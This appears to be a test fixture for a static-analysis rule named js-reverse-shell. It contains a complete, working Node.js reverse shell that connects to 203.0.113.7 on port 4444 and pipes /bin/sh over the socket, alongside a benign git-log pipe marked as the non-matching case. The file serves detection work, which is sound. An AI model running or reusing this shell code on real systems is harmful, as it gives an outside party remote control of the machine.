const net = require("net");
const { spawn } = require("child_process");

const client = new net.Socket();
client.connect(4444, "203.0.113.7", () => {
  const sh = spawn("/bin/sh", []);
  // ruleid: js-reverse-shell
  client.pipe(sh.stdin);
  // ruleid: js-reverse-shell
  sh.stdout.pipe(client);
});

const git = spawn("git", ["log"]);
// ok: js-reverse-shell
git.stdout.pipe(process.stdout);
